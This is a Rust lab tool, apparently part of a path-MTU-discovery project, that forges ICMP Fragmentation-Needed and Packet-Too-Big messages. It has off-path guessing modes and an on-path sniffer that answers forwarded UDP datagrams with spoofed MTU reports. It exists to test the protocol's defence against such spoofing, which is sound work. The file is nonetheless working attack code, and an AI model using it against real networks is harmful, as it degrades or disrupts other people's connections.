//! Sends forged ICMP Fragmentation-Needed (IPv4) or Packet-Too-Big (IPv6)
//! messages, for the spoofed-PTB lab test. Run it as root inside the
//! attacker's network namespace:
//!
//! `forge_ptb TARGET MTU MODE COUNT [FLOW_SRC FLOW_SPORT FLOW_DST FLOW_DPORT]`
//!
//! MODE: `random` (random bytes quoted), `guessed` (a UDP header between the
//! flow's addresses with random ports), `flow` (the flow's real addresses
//! and ports, quoting a plpmtud probe header with a random, wrong nonce),
//! `counter` (the flow's real addresses and ports, quoting nonces 1..=COUNT:
//! an attacker who knows ids are counted from 1, as they were before nonces).
//!
//! `forge_ptb sniff MTU COUNT SECONDS MIN_LEN DPORT`, run inside a router's
//! namespace, is a forger ON the path: it reads every packet the router
//! forwards (a packet socket) and answers each UDP datagram to port DPORT
//! of at least MIN_LEN bytes with a PTB reporting MTU that quotes the
//! datagram itself (nonce and all), from the router's own address; it
//! stops after COUNT forgeries or SECONDS, and prints how many it sent.
//! Its messages carry the mark 0x504c, which the lab's black-hole rules let
//! pass: the router itself sends no PTB, the forger does.

use plpmtud_sim::SplitMix64;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{IpAddr, SocketAddr};

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    !(sum as u16)
}

fn random_bytes(rng: &mut SplitMix64, n: usize) -> Vec<u8> {
    (0..n).map(|_| rng.next_u64() as u8).collect()
}

/// The quoted original datagram: an IP header, a UDP header and 20 bytes of payload.
fn quoted(
    mode: &str,
    rng: &mut SplitMix64,
    nonce: u64,
    flow: Option<(SocketAddr, SocketAddr)>,
) -> Vec<u8> {
    let Some((src, dst)) = flow.filter(|_| mode != "random") else {
        return random_bytes(rng, 68);
    };
    let (sport, dport) = if mode == "flow" || mode == "counter" {
        (src.port(), dst.port())
    } else {
        (rng.next_u64() as u16, rng.next_u64() as u16)
    };
    let payload = plpmtud_core::wire::probe(nonce, 1400, 20);
    let udp_len = (8 + 1372) as u16;
    let mut udp = Vec::new();
    udp.extend_from_slice(&sport.to_be_bytes());
    udp.extend_from_slice(&dport.to_be_bytes());
    udp.extend_from_slice(&udp_len.to_be_bytes());
    udp.extend_from_slice(&[0, 0]);
    udp.extend_from_slice(&payload);
    let mut ip = Vec::new();
    match (src.ip(), dst.ip()) {
        (IpAddr::V4(s), IpAddr::V4(d)) => {
            ip.extend_from_slice(&[0x45, 0, 0x05, 0x78, 0, 0, 0x40, 0, 64, 17, 0, 0]);
            ip.extend_from_slice(&s.octets());
            ip.extend_from_slice(&d.octets());
            let sum = checksum(&ip);
            ip[10..12].copy_from_slice(&sum.to_be_bytes());
        }
        (IpAddr::V6(s), IpAddr::V6(d)) => {
            ip.extend_from_slice(&[0x60, 0, 0, 0]);
            ip.extend_from_slice(&udp_len.to_be_bytes());
            ip.extend_from_slice(&[17, 64]);
            ip.extend_from_slice(&s.octets());
            ip.extend_from_slice(&d.octets());
        }
        _ => panic!("flow addresses of mixed families"),
    }
    ip.extend_from_slice(&udp);
    ip
}

/// An ICMP error reporting `mtu` that quotes `packet` (as much as fits a
/// minimal-MTU reply), for the family of `target`.
fn ptb_message(target: IpAddr, mtu: u32, packet: &[u8]) -> Vec<u8> {
    let mut message = match target {
        // Type 3 code 4: checksum, unused, next-hop MTU.
        IpAddr::V4(_) => {
            let mut m = vec![3, 4, 0, 0, 0, 0];
            m.extend_from_slice(&(mtu as u16).to_be_bytes());
            m
        }
        // Type 2 code 0: checksum (the kernel fills it in for ICMPv6), MTU.
        IpAddr::V6(_) => {
            let mut m = vec![2, 0, 0, 0];
            m.extend_from_slice(&mtu.to_be_bytes());
            m
        }
    };
    let room = if target.is_ipv4() {
        576 - 28
    } else {
        1280 - 48
    };
    message.extend_from_slice(&packet[..packet.len().min(room)]);
    if target.is_ipv4() {
        let sum = checksum(&message);
        message[2..4].copy_from_slice(&sum.to_be_bytes());
    }
    message
}

/// The source of a UDP datagram of at least `min_len` bytes in `packet`
/// (an IPv4 or IPv6 packet without extension headers).
fn big_udp_source(packet: &[u8], min_len: usize, dport: u16) -> Option<IpAddr> {
    let port_at = |at: usize| Some(u16::from_be_bytes([*packet.get(at)?, *packet.get(at + 1)?]));
    let (total, src, udp_at) = match packet.first()? >> 4 {
        4 if packet.len() >= 20 && packet[9] == 17 => {
            let src: [u8; 4] = packet[12..16].try_into().ok()?;
            let header = usize::from(packet[0] & 0x0F) * 4;
            (usize::from(port_at(2)?), IpAddr::from(src), header)
        }
        6 if packet.len() >= 40 && packet[6] == 17 => {
            let src: [u8; 16] = packet[8..24].try_into().ok()?;
            (40 + usize::from(port_at(4)?), IpAddr::from(src), 40)
        }
        _ => return None,
    };
    (total >= min_len && port_at(udp_at + 2)? == dport).then_some(src)
}

/// The on-path forger (see the module docs).
fn sniff(args: &[String]) {
    let usage = "forge_ptb sniff MTU COUNT SECONDS MIN_LEN DPORT";
    let arg = |i: usize| -> u64 { args.get(i).and_then(|a| a.parse().ok()).expect(usage) };
    let (mtu, count, seconds, min_len) = (arg(1) as u32, arg(2), arg(3), arg(4) as usize);
    let dport = arg(5) as u16;
    let all = (libc::ETH_P_ALL as u16).to_be();
    let packets = Socket::new(
        Domain::PACKET,
        Type::DGRAM,
        Some(Protocol::from(i32::from(all))),
    )
    .expect("packet socket (root)");
    packets
        .set_read_timeout(Some(std::time::Duration::from_millis(50)))
        .expect("read timeout");
    let v4 = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4)).expect("raw ICMP");
    let v6 = Socket::new(Domain::IPV6, Type::RAW, Some(Protocol::ICMPV6)).expect("raw ICMPv6");
    for socket in [&v4, &v6] {
        socket.set_mark(0x504c).expect("SO_MARK (root)");
    }
    let until = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 65_536];
    let (mut sent, mut last) = (0u64, Vec::new());
    while sent < count && std::time::Instant::now() < until {
        let Ok(n) = packets.recv(&mut buf) else {
            continue;
        };
        // SAFETY: recv initialised the first n bytes.
        let packet: Vec<u8> = buf[..n]
            .iter()
            .map(|b| unsafe { b.assume_init() })
            .collect();
        let Some(source) = big_udp_source(&packet, min_len, dport) else {
            continue;
        };
        // A forwarded packet is seen on the way in and on the way out.
        if packet == last {
            continue;
        }
        let message = ptb_message(source, mtu, &packet);
        let socket = if source.is_ipv4() { &v4 } else { &v6 };
        if socket
            .send_to(&message, &SockAddr::from(SocketAddr::new(source, 0)))
            .is_ok()
        {
            sent += 1;
        }
        last = packet;
    }
    println!("sent {sent} on-path PTB(s) reporting {mtu}");
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().map(String::as_str) == Some("sniff") {
        sniff(&args);
        return;
    }
    let usage = "forge_ptb TARGET MTU MODE COUNT [FLOW_SRC FLOW_SPORT FLOW_DST FLOW_DPORT]";
    let target: IpAddr = args.first().and_then(|a| a.parse().ok()).expect(usage);
    let mtu: u32 = args.get(1).and_then(|a| a.parse().ok()).expect(usage);
    let mode = args.get(2).map(String::as_str).expect(usage);
    let count: u32 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
    let flow = (args.len() >= 8).then(|| {
        let addr = |ip: &str, port: &str| {
            SocketAddr::new(ip.parse().expect(usage), port.parse().expect(usage))
        };
        (addr(&args[4], &args[5]), addr(&args[6], &args[7]))
    });
    let mut rng = SplitMix64::new(u64::from(mtu) << 8 | u64::from(count));
    let (domain, protocol) = match target {
        IpAddr::V4(_) => (Domain::IPV4, Protocol::ICMPV4),
        IpAddr::V6(_) => (Domain::IPV6, Protocol::ICMPV6),
    };
    let socket = Socket::new(domain, Type::RAW, Some(protocol)).expect("raw ICMP socket (root)");
    let dest = SockAddr::from(SocketAddr::new(target, 0));
    for i in 1..=count {
        let nonce = if mode == "counter" {
            u64::from(i)
        } else {
            rng.next_u64()
        };
        let message = ptb_message(target, mtu, &quoted(mode, &mut rng, nonce, flow));
        socket.send_to(&message, &dest).expect("send forged ICMP");
    }
    println!("sent {count} forged {mode} PTB(s) reporting {mtu} to {target}");
}
